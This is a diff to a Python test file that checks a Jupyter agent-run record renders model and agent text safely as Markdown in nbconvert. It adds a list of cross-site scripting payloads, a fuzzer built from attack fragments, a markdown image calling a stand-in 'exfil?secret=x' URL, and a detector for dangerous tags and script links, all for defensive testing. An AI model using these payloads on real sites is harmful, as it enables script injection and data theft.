@@ -1,6 +1,16 @@
 """The static record a notebook keeps of a run: Markdown, bounded, safe wherever it is shown."""
 
+import copy
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import nbformat
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from nbconvert import HTMLExporter
+from nbconvert.filters.markdown import markdown2html
+from nbformat.v4 import new_code_cell, new_notebook, new_output
 
 from jupyter_agentruns.record import ANSWER_LIMIT, run_markdown
 
@@ -48,8 +58,8 @@ def test_a_failure_a_cancel_an_interruption_and_a_live_run_say_so():
 
 def test_a_run_taken_over_after_its_server_stopped_says_so():
     assert "resumed" not in run_markdown(run_object(attempt=1))
-    assert ", resumed 1 time after its server stopped</sub>" in run_markdown(run_object(attempt=2))
-    assert ", resumed 2 times after its server stopped</sub>" in run_markdown(run_object(attempt=3))
+    assert ", resumed 1 time after its server stopped*" in run_markdown(run_object(attempt=2))
+    assert ", resumed 2 times after its server stopped*" in run_markdown(run_object(attempt=3))
 
 
 def test_a_huge_answer_is_cut_with_a_note_naming_the_run():
@@ -70,23 +80,198 @@ def test_a_huge_answer_is_cut_with_a_note_naming_the_run():
     )
 
 
-def test_html_in_a_model_answer_stays_text_but_code_keeps_its_brackets():
+def answered(text):
+    """A run whose answer is ``text``."""
+    return run_object(
+        snapshot={
+            "messages": [{"id": "m1", "text": text, "done": True}],
+            "tools": [],
+            "progress": None,
+            "usage": None,
+        }
+    )
+
+
+def test_html_in_a_model_answer_stays_text_but_code_blocks_keep_their_brackets():
     answer = (
-        'See <img src=x onerror="alert(1)"> and `a<b`\n'
+        'See <img src=x onerror="alert(1)"> and `a<b` and `x = 1`\n'
         "```html\n<b>bold</b>\n```\n<script>alert(2)</script>"
     )
-    record = run_markdown(
-        run_object(
-            snapshot={
-                "messages": [{"id": "m1", "text": answer, "done": True}],
-                "tools": [],
-                "progress": None,
-                "usage": None,
-            }
-        )
+    record = run_markdown(answered(answer))
+    assert "<img" not in record and "<script" not in record and "<b>bold</b>" in record
+    html = markdown2html(record)
+    assert unsafe(html) == []
+    shown = text_of(html)
+    assert 'See <img src=x onerror="alert(1)"> and `a<b` and x = 1' in shown
+    assert "<b>bold</b>" in shown and "<script>alert(2)</script>" in shown
+
+
+class Rendered(HTMLParser):
+    """The elements of rendered HTML, and its text."""
+
+    def __init__(self):
+        super().__init__()
+        self.elements, self.text = [], []
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, attrs))
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def parsed(html):
+    page = Rendered()
+    page.feed(html)
+    page.close()
+    return page
+
+
+def text_of(html):
+    return "".join(parsed(html).text)
+
+
+# What rendered model text may never hold: an element that runs script or
+# fetches a URL, an event handler, an attribute that loads something, a script link.
+FORBIDDEN_TAGS = {
+    "img", "script", "iframe", "svg", "math", "style", "object", "embed", "link", "meta",
+    "base", "form", "video", "audio", "source", "picture", "frame", "frameset", "template",
+}  # fmt: skip
+LOADING_ATTRS = {"src", "srcset", "background", "poster", "action", "formaction", "xlink:href"}
+
+
+def unsafe(html):
+    found = []
+    for tag, attrs in parsed(html).elements:
+        if tag in FORBIDDEN_TAGS:
+            found.append(tag)
+        for name, value in attrs:
+            if name.startswith("on") or name in LOADING_ATTRS:
+                found.append(f"{tag} {name}")
+            if name == "href" and value is not None:
+                href = value.strip().replace("\t", "").replace("\n", "").replace("\r", "")
+                if urlsplit(href).scheme.lower() in ("javascript", "vbscript", "data"):
+                    found.append(f"{tag} href={value}")
+    return found
+
+
+HOSTILE = [
+    '<img src=x onerror="alert(1)">',
+    "<script>alert(2)</script><iframe src=http://127.0.0.1:9/></iframe>",
+    "<svg onload=alert(3)> <a href=javascript:alert(4)>x</a>",
+    "![i](http://127.0.0.1:9/exfil?secret=x) [a](javascript:alert(5))",
+    "`x` <img src=y onerror=alert(6)> ` and \\`<img src=y onerror=alert(7)>`",
+    "```\n<img src=z onerror=alert(8)>\n```\n\n$$\n<img src=w onerror=alert(9)>\n$$",
+    "[b](java&#115;cript:alert(10)) [c](&amp;#106;avascript:alert(11))",
+    "```mermaid\n<img src=v onerror=alert(12)>\n```",
+    "| a |\n|---|\n| `x|<img src=u onerror=alert(13)>` |",
+    "x\r```\r\n~~~\n```\n<img src=t onerror=alert(14)>\n~~~",
+    "[a](x`y) <img src=s onerror=alert(15)> `",
+    "a `b\nc `<img src=r onerror=alert(16)>` d",
+    "$a `b$ <img src=q onerror=alert(17)> `",
+]
+
+
+def hostile_run(text, **changes):
+    """A run with ``text`` in every field an agent or a model could have written."""
+    run = run_object(
+        agent=text, run_id=text, retry_of=text, created_at=text, attempt=2,
+        status="failed", error={"type": text, "message": text}, output={"answer": text},
+        snapshot={
+            "messages": [{"id": "m1", "role": "assistant", "text": text, "done": True}],
+            "tools": [
+                {"call_id": "c1", "name": text, "args": {"q": text}, "status": "failed",
+                 "error": {"type": "unknown_tool", "message": f"no tool named {text}"}},
+                {"call_id": "c2", "name": "lookup", "args": [text], "status": text, "result": text},
+            ],
+            "inputs": [
+                {"request_id": "r1", "title": text, "status": "resolved", "choice": text, "by": text},
+                {"request_id": "r2", "title": text, "status": "open", "choices": [text, "no"]},
+            ],
+            "progress": None,
+            "usage": {"input_tokens": text, "output_tokens": [text], "cost": text},
+        },
+    )  # fmt: skip
+    run.update(changes)
+    return run
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_a_run_holds_renders_in_nbconvert_as_text_never_as_markup(text):
+    for run in (
+        hostile_run(text),
+        hostile_run(text, status="cancelled", cancel={"reason": text}),
+        hostile_run(text, status="running", finished_at=None),
+        hostile_run(text, status="succeeded", snapshot={"messages": [], "tools": []}),
+    ):
+        html = markdown2html(run_markdown(run))
+        assert unsafe(html) == [], html
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_hostile_answer_stays_text_where_code_html_math_and_tables_meet(text):
+    html = markdown2html(run_markdown(answered(text)))
+    assert unsafe(html) == [], html
+
+
+def test_a_failure_and_a_cancel_show_their_text_exactly():
+    message = 'unknown tool <img src=x onerror="alert(1)"> *not bold* $x$ \\ [a](b) R&D_1 _x_'
+    failed = text_of(markdown2html(run_markdown(hostile_run(message))))
+    assert f"Failed ({message}): {message}" in failed
+    assert f"failed: no tool named {message}" in failed
+    cancelled = hostile_run(message, status="cancelled", cancel={"reason": message})
+    assert f"Cancelled: {message}" in text_of(markdown2html(run_markdown(cancelled)))
+
+
+def test_an_image_in_the_answer_is_a_link_and_its_markdown_stays_markdown():
+    answer = (
+        "## Rain\n\n- **Mon**: 12 mm\n- *Tue*: `dry`\n\n| day | mm |\n|---|---|\n| Mon | 12 |\n\n"
+        "```python\nif a < b and c > d:\n    print('<ok>')\n```\n\n"
+        "Chart: ![rain by day](http://127.0.0.1:9/exfil?secret=x), "
+        "source [the portal](https://example.org/rain?a=1&b=2), R&D and $5 vs $6."
     )
-    assert "<img" not in record and "<script" not in record
-    assert "&lt;img" in record and "`a<b`" in record and "<b>bold</b>" in record
+    html = markdown2html(run_markdown(answered(answer)))
+    assert unsafe(html) == []
+    elements = parsed(html).elements
+    tags = [tag for tag, _ in elements]
+    assert {"h2", "ul", "li", "strong", "em", "code", "table", "td", "pre"} <= set(tags)
+    links = [dict(attrs)["href"] for tag, attrs in elements if tag == "a"]
+    links = [href for href in links if not href.startswith("#")]  # nbconvert's heading anchors
+    assert links == ["http://127.0.0.1:9/exfil?secret=x", "https://example.org/rain?a=1&b=2"]
+    shown = text_of(html)
+    assert "if a < b and c > d:\n    print('<ok>')" in shown
+    assert "Chart: !rain by day, source the portal, R&D and $5 vs $6." in shown
+
+
+FRAGMENTS = [
+    "<img src=x onerror=alert(1)>", "<", ">", "`", "``", "```", "~~~", "\n", "\n\n", " ", "    ",
+    "\t", "\r", "\\", "&", "#106;", "&#106;", "&colon;", "javascript", ":", "![", "[", "]",
+    "(", ")", "$", "$$", "\\begin{a}", "\\end{a}", "\\\\[", "\\\\]", "|", "|---|", "- ",
+    "> ", "1. ", '"', "'", "*", "_", "mermaid", "x", "http://h/e", "<!--", "<script>", "[r]: ",
+    "[r]", "<svg/onload=alert(2)>",
+]  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
+def test_no_model_text_becomes_markup_in_nbconvert(text):
+    html = markdown2html(run_markdown(hostile_run(text)))
+    assert unsafe(html) == [], html
+
+
+def test_nbconverts_html_export_of_a_notebook_shows_a_hostile_run_as_text():
+    """The whole export, as ``jupyter nbconvert --to html`` makes it, of a run's saved output."""
+    run = hostile_run('<img src=x onerror="alert(1)"> ![i](http://127.0.0.1:9/exfil?secret=x)')
+    output = new_output(
+        "display_data",
+        data={"text/plain": "Run(...)", "text/markdown": run_markdown(run)},
+    )
+    notebook = new_notebook(cells=[new_code_cell("submit(...)", outputs=[output])])
+    html, _ = HTMLExporter().from_notebook_node(nbformat.from_dict(copy.deepcopy(notebook)))
+    start = html.index('data-mime-type="text/markdown"')
+    shown = html[start : html.index("</div>\n</div>", start)]
+    assert unsafe(shown) == [] and "&lt;img src=x onerror=" in shown
+    assert 'href="http://127.0.0.1:9/exfil?secret=x"' in shown
 
 
 def test_an_agent_that_streams_no_text_shows_its_output():
